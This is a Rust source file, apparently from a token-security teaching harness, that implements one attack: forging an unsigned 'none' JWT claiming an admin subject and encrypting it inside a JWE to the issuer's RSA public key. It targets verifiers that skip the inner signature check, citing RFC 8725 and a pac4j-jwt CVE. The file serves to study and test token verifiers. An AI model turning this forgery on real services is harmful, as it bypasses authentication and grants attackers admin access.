//! An unsecured JWT inside an encrypted one.
//!
//! The flawed assumption: if there were something wrong with the signature,
//! verifying it would have said so. The code asks whether what was inside is a
//! signed token, and verifies it if it is. An unsecured JWT (RFC 7519 §6) is
//! none, so nothing is verified, and what is left is the encryption, which
//! everybody can do. Bitten: pac4j-jwt (CVE-2026-29000). RFC 8725 §3.3:
//! validate inner and outer, and refuse if either fails.

use serde_json::{Map, Value};
use tokenlab_harness::exchange::PublicKey;
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::jwe::{self, Recipient};
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{KeyManagement, Scheme};
use crate::weakness::Weakness;

pub(super) struct NestedPlainjwt;

static PROFILE: AttackProfile = AttackProfile {
    id: "nested-plainjwt",
    title: "Unsecured token inside an encrypted one",
    assumption: "If the signature were missing, verifying it would have said so.",
    class: AttackClass::Encryption,
    given: &[],
    isolated: false,
    breaks: &[Weakness::UnsignedInside],
    references: &[
        (
            "RFC 8725 §2.3",
            "Libraries decrypt a JWE to get at a signed object and don't always verify the signature.",
        ),
        (
            "RFC 8725 §3.3",
            "Every cryptographic operation of a nested JWT is validated, inner and outer.",
        ),
        (
            "RFC 7519 §6",
            "An unsecured JWT has the algorithm `none` and no signature.",
        ),
        (
            "CVE-2026-29000",
            "Maven pac4j-jwt before 4.5.9, 5.7.9 and 6.3.3 believes an unsecured JWT inside a JWE; fixed in those.",
        ),
    ],
    lesson: include_str!("../../lessons/nested-plainjwt.md"),
};

impl Attack for NestedPlainjwt {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let why = match (view.scheme(), view.public_key()) {
            (Scheme::Jwe(alg, _), Some(PublicKey::Rsa(public))) => {
                return nested(view, &recipient(alg, public), notes);
            }
            (Scheme::Jwe(..), Some(_)) => {
                "what decrypts is the claims, and no token is looked for inside; the key is no RSA key either"
            }
            (Scheme::Jwe(..), None) => {
                "issuer and verifier share a secret, and only those two can put anything inside"
            }
            (Scheme::Jwt(_), _) => "the verifier expects a signed token, with nothing around it",
            (Scheme::Paseto(..), _) => {
                "a PASETO has no other inside it, and none is encrypted to a public key"
            }
            (Scheme::Biscuit, _) => "a biscuit has blocks and no other token inside",
            (Scheme::Session(_), _) => "there is nothing inside the id of a session",
        };
        let public = issuers_rsa_key(view)?;
        let tried = nested(view, &recipient(KeyManagement::RsaOaep256, &public), notes)?;
        let tried = tried.into_iter().map(|forgery| Forgery {
            analogue: Some(
                "the nested token is encrypted to a public key that the issuer has for something else".into(),
            ),
            ..forgery
        });
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried: tried.collect(),
        })
    }
}

/// Unsecured JWTs in the spellings of `none`, inside a JWE that says that there
/// is a JWT inside.
fn nested(
    view: &AttackerView<'_>,
    recipient: &Recipient,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, CannotForge> {
    let mut forgeries = Vec::new();
    for (variant, spelling) in [("none-inside", "none"), ("none-inside-in-capitals", "NONE")] {
        let header = Map::from_iter([("alg".to_owned(), Value::from(spelling))]);
        let inner = mint::jws(&header, view.wanted(), &Signature::Empty)?;
        notes.variant_step(
            variant,
            format!(
                "Writes an unsecured JWT with {spelling:?} for an algorithm, in which the subject is admin."
            ),
            inner.as_str(),
        );
        let outer = Map::from_iter([("cty".to_owned(), Value::from("JWT"))]);
        let token = jwe::seal(recipient, &outer, inner.as_bytes())?;
        notes.variant_step(
            variant,
            "Encrypts that to the public key, where a signed token belongs.",
            "",
        );
        forgeries.push(Forgery::new(variant, token));
    }
    Ok(forgeries)
}

fn recipient(alg: KeyManagement, public: &rsa::RsaPublicKey) -> Recipient {
    let public = Box::new(public.clone());
    match alg {
        KeyManagement::Rsa15 => Recipient::Rsa15(public),
        KeyManagement::RsaOaep => Recipient::RsaOaep(public),
        _ => Recipient::RsaOaep256(public),
    }
}

fn issuers_rsa_key(view: &AttackerView<'_>) -> Result<rsa::RsaPublicKey, CannotForge> {
    use rsa::pkcs8::DecodePublicKey;
    rsa::RsaPublicKey::from_public_key_pem(&view.issuer().rsa_pem)
        .map_err(|error| CannotForge::Failed(error.to_string()))
}
